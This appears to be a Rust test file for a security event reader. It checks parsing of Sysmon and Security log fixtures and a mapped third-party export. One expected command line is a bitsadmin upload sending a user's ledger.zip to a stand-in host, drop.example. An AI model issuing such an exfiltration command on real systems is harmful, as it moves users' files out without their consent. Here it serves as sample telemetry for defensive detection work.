//! The fixtures and examples of this repository.

use std::fs;
use std::path::Path;
use std::sync::Arc;

use rulespec_events::{Event, Item, Options, Shapes, Source, read};
use rulespec_testing::files::ROOT;
use rulespec_testing::reader::collect_items;
use serde_json::json;

fn read_file(path: &str) -> Vec<Item> {
    let path = Path::new(ROOT).join(path);
    collect_items(None, |_| true, |options, sink| read(&path, options, sink))
}

fn count(items: &[Item], source: Source) -> usize {
    items.iter().filter(|item| matches!(item, Item::Event(event) if event.source == source)).count()
}

#[test]
fn the_fixture_is_read() {
    let items = read_file("tests/fixtures/windows.xml");
    assert_eq!((count(&items, Source::Sysmon), count(&items, Source::Security), items.len()), (2, 2, 5));
    let events: Vec<&Event> = items
        .iter()
        .filter_map(|item| if let Item::Event(event) = item { Some(&**event) } else { None })
        .collect();
    let upload = r#"bitsadmin.exe /transfer out /upload https://drop.example/in/ledger.zip "C:\Users\e.larsen\My Files\ledger.zip""#;
    let download = r#"bitsadmin  /transfer "Q3 report" /priority foreground http://files.example/q3/report.xlsx C:\Users\Public\report.xlsx"#;
    for (index, column, expected) in [
        (0, "DeviceName", json!("ws07.corp.example")),
        (0, "FileName", json!("bitsadmin.exe")),
        (0, "ProcessId", json!(6120)),
        (0, "AccountName", json!("e.larsen")),
        (0, "TimeGenerated", json!("2026-01-02T09:14:03.5120000Z")),
        (0, "ProcessCommandLine", json!(download)),
        (2, "ProcessCommandLine", json!(upload)),
        (2, "ProcessId", json!(7212)),
        (2, "InitiatingProcessId", json!(5004)),
    ] {
        assert_eq!(events[index].cell(column).unwrap().to_json(), expected, "{column}");
    }
}

#[test]
fn the_example_is_read() {
    let items = read_file("examples/events/sysmon.xml");
    assert_eq!((count(&items, Source::Sysmon), items.len()), (3, 4));
}

#[test]
fn the_mapping_that_the_documents_show_reads_the_export_of_another_tool() {
    let read_root = |path: &str| fs::read_to_string(Path::new(ROOT).join(path)).unwrap();
    let (mapping, export) = (read_root("examples/mapping.toml"), read_root("examples/other-tool.jsonl"));
    for (document, parts) in [("docs/events.md", &[&mapping][..]), ("spec/shapes.md", &[&mapping, &export])] {
        let text = read_root(document);
        parts
            .iter()
            .for_each(|part| assert!(text.contains(part.as_str()), "{document} does not show {part}"));
    }
    let path = Path::new(ROOT).join("examples/other-tool.jsonl");
    let shapes = Arc::new(Shapes::with_mapping(&mapping).unwrap());
    let items = collect_items(
        None,
        |_| true,
        |options, sink| read(&path, &Options { shapes: shapes.clone(), ..options.clone() }, sink),
    );
    let [Item::Event(event)] = &items[..] else { panic!("{items:?}") };
    for (column, expected) in [
        ("TimeGenerated", json!("2026-11-24T18:20:55.0000000Z")),
        ("DeviceName", json!("ws07.corp.example")),
        ("AccountName", json!("alice")),
        ("FileName", json!("bitsadmin.exe")),
        ("ProcessId", json!(5120)),
    ] {
        assert_eq!(event.cell(column).unwrap().to_json(), expected, "{column}");
    }
    assert!(!read_file("examples/other-tool.jsonl").iter().any(|item| matches!(item, Item::Event(_))));
}
